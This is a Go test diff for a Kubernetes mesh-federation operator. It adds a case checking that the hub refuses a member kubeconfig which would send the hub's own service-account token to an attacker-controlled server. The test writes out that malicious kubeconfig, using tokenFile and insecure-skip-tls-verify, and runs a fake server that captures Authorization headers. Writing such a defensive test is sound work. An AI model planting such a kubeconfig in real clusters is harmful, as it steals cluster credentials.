@@ -3,8 +3,13 @@ package meshfederation_test
 import (
 	"context"
 	"fmt"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
 	"sort"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -394,6 +399,58 @@ func TestServiceFederation(t *testing.T) {
 		exportService(t, c, "shop", "while-broken", testbed.ClusterIPService(testbed.HTTPPort(80)))
 		waitImport(t, f.members, "shop", "while-broken", func(*mcsv1beta1.ServiceImport) error { return nil })
 
+		f.updateFederation(t, func(fed *meshv1.MeshFederation) { fed.Spec.Members = fed.Spec.Members[:3] })
+		f.waitReady(t)
+	})
+
+	t.Run("a kubeconfig that would have the hub send its own token elsewhere is refused, naming the field", func(t *testing.T) {
+		// The attack: a Secret whose kubeconfig points at the attacker's server with the
+		// hub's own service-account token (a file on the hub's disk). The attacker's server
+		// listens where the operator's pods reach the host.
+		var mu sync.Mutex
+		var stolen []string
+		srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			if a := r.Header.Get("Authorization"); a != "" {
+				mu.Lock()
+				stolen = append(stolen, a)
+				mu.Unlock()
+			}
+			http.NotFound(w, r)
+		}))
+		u, err := url.Parse(f.hub.Server)
+		must(t, err)
+		lis, err := net.Listen("tcp", net.JoinHostPort(u.Hostname(), "0"))
+		must(t, err)
+		srv.Listener = lis
+		srv.StartTLS()
+		defer srv.Close()
+		evil := fmt.Sprintf(`apiVersion: v1
+kind: Config
+clusters: [{name: evil, cluster: {server: %q, insecure-skip-tls-verify: true}}]
+users: [{name: evil, user: {tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token}}]
+contexts: [{name: evil, context: {cluster: evil, user: evil}}]
+current-context: evil
+`, srv.URL)
+		testbed.MustCreate(ctx, t, f.hub.Client, &corev1.Secret{
+			ObjectMeta: metav1.ObjectMeta{Namespace: hubNS, Name: "evil-kubeconfig"},
+			Data:       map[string][]byte{"kubeconfig": []byte(evil)},
+		})
+		f.updateFederation(t, func(fed *meshv1.MeshFederation) {
+			fed.Spec.Members = append(fed.Spec.Members, meshv1.Member{Name: "evil", KubeconfigSecretRef: meshv1.SecretKeyRef{Name: "evil-kubeconfig"}})
+		})
+		testbed.Eventually(t, 30*time.Second, "the refusal names the fields", func() error {
+			cond := meta.FindStatusCondition(f.get(t).Status.Conditions, meshv1.ConditionReady)
+			if cond == nil || !strings.Contains(cond.Message, `users[\"evil\"].tokenFile`) && !strings.Contains(cond.Message, `users["evil"].tokenFile`) ||
+				!strings.Contains(cond.Message, "insecure-skip-tls-verify") {
+				return fmt.Errorf("Ready condition %+v", cond)
+			}
+			return nil
+		})
+		mu.Lock()
+		if len(stolen) > 0 {
+			t.Errorf("the hub sent %d requests with credentials to the kubeconfig's server", len(stolen))
+		}
+		mu.Unlock()
 		f.updateFederation(t, func(fed *meshv1.MeshFederation) { fed.Spec.Members = fed.Spec.Members[:3] })
 		f.waitReady(t)
 	})
